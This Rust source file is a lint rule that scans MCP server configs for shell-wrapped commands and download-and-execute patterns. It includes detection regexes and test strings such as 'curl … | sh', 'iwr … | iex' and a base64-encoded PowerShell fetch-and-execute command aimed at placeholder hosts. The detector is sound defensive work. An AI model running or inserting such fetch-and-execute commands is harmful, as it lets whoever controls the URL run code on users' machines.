//! `shell-wrapper`: a server started through a shell (`sh -c`, `cmd /c`,
//! `powershell -Command`) whose script hides what really runs, and the worst
//! case of it: a script that downloads code and executes it at every start
//! (`curl … | sh`, `iwr … | iex`, `eval "$(curl …)"`).

use std::sync::LazyLock;

use regex::Regex;

use crate::finding::{Finding, Severity};
use crate::model::{ConfigFile, ServerEntry, Str};
use crate::packages;
use crate::rules::{Context, Rule, RuleMeta};

pub struct ShellWrapper;

static META: RuleMeta = RuleMeta {
    id: "shell-wrapper",
    summary: "A server runs through a shell script, or downloads and executes code at every start",
    default_severity: Severity::Low,
    family: "supply-chain",
    precision: "high",
    docs: r#"## What it does

Reports servers whose `command` is a shell running a script: `sh`, `bash`,
`zsh`, `dash` with `-c`, `cmd` with `/c`, `powershell`/`pwsh` with `-Command`
(low), or with `-EncodedCommand`, a base64 script nobody can read in review
(medium). It reports with high severity a script or one-string command that
fetches code and executes it: `curl … | sh`, `wget -O- … | bash`,
`iwr … | iex`, `iex (irm …)`, `iex ((New-Object Net.WebClient).DownloadString(…))`,
`eval "$(curl …)"`, `bash -c "$(curl …)"`, `bash <(curl …)`.

`cmd /c npx -y pkg`, with the program and each argument as separate elements
and no shell syntax, is how Windows clients must start `.cmd` launchers: it
hides nothing and is not reported; nor is `sh -c server`, a single word. The
launched package is still checked by `unpinned-package`.

## Why it matters

A shell script in a string is opaque to review and to every other check:
`sh -c "npx -y pkg && …"` can run anything, and tools that read `command` and
`args` see only `sh`. A fetch-and-execute line is worse: whoever controls the
URL, its DNS or its CDN runs code on this machine, as you, at every start of
the client, with no version, no checksum and no trace of what ran.

## Example

```json
{
  "mcpServers": {
    "tools": { "command": "bash", "args": ["-c", "curl -fsSL https://example.com/install.sh | sh && tools-mcp"] }
  }
}
```

## Use instead

Install a pinned, reviewed release once, then start it directly:

```json
{
  "mcpServers": {
    "tools": { "command": "/opt/tools-mcp/1.4.2/bin/tools-mcp", "args": ["--stdio"] }
  }
}
```

## References

- MCP specification: [Security best practices, local MCP server compromise](https://modelcontextprotocol.io/specification/2025-06-18/basic/security_best_practices)
- CWE-494: [Download of code without integrity check](https://cwe.mitre.org/data/definitions/494.html)
"#,
    options: &[],
};

const FETCH: &str = r"curl|wget|fetch|iwr|irm|invoke-webrequest|invoke-restmethod";
const RUNNER: &str = r"sh|bash|zsh|dash|ksh|fish|python[0-9.]*|node|perl|ruby|php|iex|invoke-expression|pwsh|powershell|cmd";

/// `curl … | sh`: a download piped into an interpreter.
static PIPE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r"(?i)\b({FETCH})\b(?:[^|;\n&]|&[^&])*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+)?({RUNNER})\b"
    ))
    .expect("valid regex")
});

/// `iex (irm …)`, `iex ((New-Object Net.WebClient).DownloadString(…))`.
static IEX: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?i)\b(iex|invoke-expression)\s*(?:\(\s*)*(new-object\s+(?:system\.)?net\.webclient\s*\)?\s*\.\s*downloadstring|iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)\b",
    )
    .expect("valid regex")
});

/// `eval "$(curl …)"`, `bash -c "$(curl …)"`, `bash <(curl …)`, `. <(wget …)`.
static SUBST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(&format!(
        r#"(?i)(?:^|[\s;&|(/])(eval|source|\.|{RUNNER})\s+(?:-\S+\s+)*["']?(?:\$\(|`|<\()\s*({FETCH})\b"#
    ))
    .expect("valid regex")
});

/// A short, secret-free name for a fetch-and-execute match.
fn fetch_exec(text: &str) -> Option<(std::ops::Range<usize>, String)> {
    if let Some(c) = PIPE.captures(text) {
        let m = c.get(0)?;
        return Some((m.range(), format!("{} … | {}", lower(&c[1]), lower(&c[2]))));
    }
    if let Some(c) = IEX.captures(text) {
        let m = c.get(0)?;
        let src = lower(&c[2]);
        let src = if src.starts_with("new-object") {
            "DownloadString".to_string()
        } else {
            src
        };
        return Some((m.range(), format!("{} ({src} …)", lower(&c[1]))));
    }
    if let Some(c) = SUBST.captures(text) {
        let m = c.get(0)?;
        return Some((
            m.range(),
            format!("{} \"$({} …)\"", lower(&c[1]), lower(&c[2])),
        ));
    }
    None
}

fn lower(s: &str) -> String {
    s.to_ascii_lowercase()
}

impl Rule for ShellWrapper {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, _cx: &Context, file: &ConfigFile, out: &mut Vec<Finding>) {
        for server in &file.servers {
            let name = crate::mask::short_key(&server.name);
            if let Some(sh) = packages::shell_script(server) {
                let first = sh.script[0];
                let flag = sh.flag.map_or(String::new(), |f| format!(" {}", f.value));
                let how = format!("{}{flag}", crate::model::program_name(&sh.program.value));
                if sh.encoded {
                    out.push(
                        Finding::new(META.id, Severity::Medium, first.span.clone(), first.pointer.clone(),
                            format!("server `{name}` runs a base64-encoded PowerShell command (`{how}`) that no reviewer can read"))
                            .label("encoded script")
                            .help("decode the command and write the program in \"command\" and its arguments in \"args\"")
                            .server(Some(&server.name)),
                    );
                } else if !sh.is_plain_argv() {
                    out.push(
                        Finding::new(META.id, Severity::Low, first.span.clone(), first.pointer.clone(),
                            format!("server `{name}` runs a shell script through `{how}`, which hides from review and from other checks what actually starts"))
                            .label("shell script")
                            .help("write the program in \"command\" and each argument as an element of \"args\"")
                            .server(Some(&server.name)),
                    );
                }
                if sh.encoded {
                    if let Some((_, what)) = fetch_exec(&sh.text()) {
                        out.push(high(server, first.span.clone(), &first.pointer, &what));
                        continue;
                    }
                }
            }
            check_fetch_exec(server, out);
        }
    }
}

fn high(server: &ServerEntry, span: crate::parse::Span, pointer: &str, what: &str) -> Finding {
    Finding::new(
        META.id,
        Severity::High,
        span,
        pointer,
        format!(
            "server `{}` downloads code and executes it at every start (`{what}`): whoever controls that URL runs code on this machine",
            crate::mask::short_key(&server.name)
        ),
    )
    .label("fetch and execute")
    .help("install a pinned, reviewed release once and start it directly with \"command\" and \"args\"")
    .server(Some(&server.name))
}

/// Look for fetch-and-execute where a shell reads it: in each argument of a
/// shell script, then in the script words joined (`cmd /c curl … | sh` as
/// separate words). A one-string command is checked as a whole line, since
/// some clients hand it to a shell. Arguments of other programs are data.
fn check_fetch_exec(server: &ServerEntry, out: &mut Vec<Finding>) {
    let words: Vec<&Str> = match packages::shell_script(server) {
        Some(sh) => sh.script,
        None if server.command_was_split => {
            server.command.iter().chain(server.args.iter()).collect()
        }
        None => return,
    };
    for w in &words {
        if let Some((_, what)) = fetch_exec(&w.value) {
            out.push(high(server, w.span.clone(), &w.pointer, &what));
            return;
        }
    }
    let mut joined = String::new();
    let mut offsets = Vec::with_capacity(words.len());
    for w in &words {
        if !joined.is_empty() {
            joined.push(' ');
        }
        offsets.push(joined.len()..joined.len() + w.value.len());
        joined.push_str(&w.value);
    }
    let Some((range, what)) = fetch_exec(&joined) else {
        return;
    };
    let hit: Vec<&Str> = words
        .iter()
        .zip(&offsets)
        .filter(|(_, o)| o.start < range.end && range.start < o.end)
        .map(|(w, _)| *w)
        .collect();
    let Some(first) = hit.first() else { return };
    // Words of one string share its pointer: span them all. Otherwise point
    // at the download command.
    let span = match hit.last() {
        Some(last) if last.pointer == first.pointer && last.span.end >= first.span.start => {
            first.span.start..last.span.end
        }
        _ => first.span.clone(),
    };
    out.push(high(server, span, &first.pointer, &what));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fetch_exec_forms() {
        for (text, what) in [
            ("curl -fsSL https://x.sh | sh", "curl … | sh"),
            (
                "curl -s 'https://x/?a=1&b=2' | bash -s -- --flag",
                "curl … | bash",
            ),
            ("wget -O- https://x | bash", "wget … | bash"),
            ("wget -qO- https://x | sudo -E bash", "wget … | bash"),
            ("iwr https://x/i.ps1 -UseBasicParsing | iex", "iwr … | iex"),
            (
                "Invoke-WebRequest https://x | Invoke-Expression",
                "invoke-webrequest … | invoke-expression",
            ),
            ("(irm https://x) | iex", "irm … | iex"),
            ("iex (irm https://x)", "iex (irm …)"),
            (
                "iex ((New-Object System.Net.WebClient).DownloadString('https://x'))",
                "iex (DownloadString …)",
            ),
            ("eval \"$(curl -fsSL https://x)\"", "eval \"$(curl …)\""),
            (
                "/bin/bash -c \"$(curl -fsSL https://x)\"",
                "bash \"$(curl …)\"",
            ),
            ("bash <(curl -s https://x)", "bash \"$(curl …)\""),
            ("set -e; . <(wget -qO- https://x)", ". \"$(wget …)\""),
            ("curl https://x | python3 -", "curl … | python3"),
        ] {
            assert_eq!(
                fetch_exec(text).map(|(_, w)| w).as_deref(),
                Some(what),
                "{text}"
            );
        }
        for text in [
            "curl -o /tmp/x https://x && echo done",
            "npx -y pkg@1.0.0",
            "cat file | sh",
            "echo curl | grep sh",
            "curl https://x > out.txt; bash other.sh",
            "wget https://x && bash x",
        ] {
            assert_eq!(fetch_exec(text), None, "{text}");
        }
    }

    fn run(json: &str) -> Vec<(Severity, String, String)> {
        let (_, out) = crate::rules::run_rule(&ShellWrapper, ".cursor/mcp.json", json);
        out.into_iter()
            .map(|f| (f.severity, json[f.span].to_string(), f.pointer))
            .collect()
    }

    #[test]
    fn wrappers_and_pipes() {
        let json = r#"{"mcpServers": {
            "a": {"command": "bash", "args": ["-c", "npx -y pkg@1.0.0 && echo"]},
            "b": {"command": "cmd", "args": ["/c", "npx", "-y", "pkg@1.0.0"]},
            "c": {"command": "sh", "args": ["-c", "curl -fsSL https://x | sh"]},
            "d": {"command": "curl -fsSL https://x | sh"},
            "e": {"command": "powershell", "args": ["-NoProfile", "-Command", "iwr https://x | iex"]},
            "f": {"command": "cmd", "args": ["/c", "curl", "-s", "https://x", "|", "sh"]},
            "g": {"command": "node", "args": ["/abs/index.js"]},
            "h": {"command": "bash", "args": ["./start.sh"]},
            "i": {"command": "node", "args": ["x.js", "--note", "curl https://x | sh"]}
        }}"#;
        let low = Severity::Low;
        let high = Severity::High;
        assert_eq!(
            run(json),
            vec![
                (
                    low,
                    "\"npx -y pkg@1.0.0 && echo\"".into(),
                    "/mcpServers/a/args/1".into()
                ),
                (
                    low,
                    "\"curl -fsSL https://x | sh\"".into(),
                    "/mcpServers/c/args/1".into()
                ),
                (
                    high,
                    "\"curl -fsSL https://x | sh\"".into(),
                    "/mcpServers/c/args/1".into()
                ),
                (
                    high,
                    "curl -fsSL https://x | sh".into(),
                    "/mcpServers/d/command".into()
                ),
                (
                    low,
                    "\"iwr https://x | iex\"".into(),
                    "/mcpServers/e/args/2".into()
                ),
                (
                    high,
                    "\"iwr https://x | iex\"".into(),
                    "/mcpServers/e/args/2".into()
                ),
                (low, "\"curl\"".into(), "/mcpServers/f/args/1".into()),
                (high, "\"curl\"".into(), "/mcpServers/f/args/1".into()),
            ]
        );
    }

    #[test]
    fn encoded_powershell() {
        // "iwr https://x | iex" as UTF-16LE base64.
        let enc = "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAgAHwAIABpAGUAeAA=";
        let json = format!(
            r#"{{"mcpServers": {{"a": {{"command": "pwsh", "args": ["-enc", "{enc}"]}}}}}}"#
        );
        let sev: Vec<Severity> = run(&json).into_iter().map(|f| f.0).collect();
        assert_eq!(sev, vec![Severity::Medium, Severity::High]);
    }
}
